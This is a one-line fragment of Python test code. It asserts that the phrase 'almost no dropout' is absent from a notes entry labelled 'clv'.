    assert "almost no dropout" not in ordinary.notes["clv"].value
